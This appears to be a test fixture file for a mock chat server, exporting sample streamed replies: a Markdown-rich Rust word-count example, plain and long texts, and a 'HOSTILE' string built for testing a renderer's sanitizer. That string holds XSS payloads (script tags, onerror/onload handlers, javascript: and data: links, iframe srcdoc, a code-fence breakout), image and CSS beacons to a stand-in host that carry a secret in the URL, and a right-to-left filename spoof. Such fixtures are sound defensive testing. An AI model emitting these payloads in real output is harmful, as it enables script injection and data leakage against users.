// Texts that the mock server streams; the error paths are chosen by a word in the last message.

export const RICH = `Here is a small **Rust** program that counts words, with notes below.

\`\`\`rust
use std::collections::HashMap;

/// Counts how often each word occurs.
fn count_words(text: &str) -> HashMap<&str, usize> {
    let mut counts = HashMap::new();
    for word in text.split_whitespace() {
        *counts.entry(word).or_insert(0) += 1; // one more
    }
    counts
}
\`\`\`

## What it does

1. Splits the text at *white space*.
2. Adds one to the entry of each word.
   - A new word starts at \`0\`.
   - See the [standard library](https://doc.rust-lang.org/std/) for more.

| Input | Words | Most frequent |
|:------|------:|:--------------|
| \`a b a\` | 3 | a |
| \`one\` | 1 | one |

> A word is whatever stands between two spaces.

Naïve café, 日本語, مرحبا, 👩‍👩‍👧: any script works.`;

export const HOSTILE = `An image: ![p](https://canary.invalid/p.png?d=secret)

![ref][r] and a [bad link](javascript:alert(1)) and [data](data:text/html,<script>alert(1)</script>).

<img src="https://canary.invalid/raw.png" onerror="window.pwned=1"> <script>window.pwned=1</script>

<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>

<svg onload="window.pwned=1"></svg> <style>body{background:url(https://canary.invalid/css)}</style>

\`\`\`html
</code></pre><img src=x onerror="window.pwned=1">
\`\`\`

| a | b
|--|
| <b onmouseover="window.pwned=1">x</b> | \u202Egnp.exe |

[r]: https://canary.invalid/ref.png
`;

export const PLAIN =
  "The sky is blue because air scatters short waves of light more than long ones. " +
  "Blue light is spread over the whole sky, so it reaches your eyes from every direction.";

export function longText() {
  return Array.from(
    { length: 60 },
    (_, i) => `Paragraph ${i + 1}: the river ran past the mill and on to the sea.`,
  ).join("\n\n");
}
